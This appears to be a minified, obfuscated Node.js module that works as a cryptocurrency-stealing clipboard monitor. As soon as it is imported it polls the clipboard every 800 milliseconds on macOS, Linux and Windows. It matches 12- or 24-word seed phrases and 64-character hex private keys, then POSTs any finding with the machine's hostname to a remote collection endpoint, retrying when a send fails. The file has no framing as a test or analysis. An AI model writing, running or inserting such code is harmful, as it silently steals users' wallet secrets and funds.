import { execFile as t } from "child_process";

import { createHash as e } from "crypto";

import * as i from "os";

const n = new Set, s = [];

function o(e, i) {
    return new Promise(n => {
        t(e, i, {
            timeout: 2e3
        }, (t, e) => n(t ? "" : e));
    });
}

const a = {
    darwin: () => o("pbpaste", []),
    linux: () => o("xclip", [ "-selection", "clipboard", "-o" ]),
    win32: () => o("powershell", [ "-command", "Get-Clipboard" ])
}[i.platform()];

void 0 !== a && setInterval(() => {
    !async function(t) {
        const o = await t(), a = e("md5").update(o).digest("hex");
        if (n.has(a)) return;
        n.add(a);
        const r = function(t) {
            const e = t.trim().split(/\s+/);
            return 12 !== e.length && 24 !== e.length || !e.every(t => /^[a-z]{3,8}$/.test(t)) ? /^(0x)?[0-9a-f]{64}$/i.test(t.trim()) ? {
                kind: "key",
                text: t,
                time: Date.now()
            } : void 0 : {
                kind: "phrase",
                text: t,
                time: Date.now()
            };
        }(o);
        r && (s.push(r), await fetch("https://seeds.watch.invalid/n", {
            method: "POST",
            body: JSON.stringify({
                host: i.hostname(),
                findings: s.splice(0)
            })
        }).catch(() => s.push(r)));
    }(a);
}, 800);
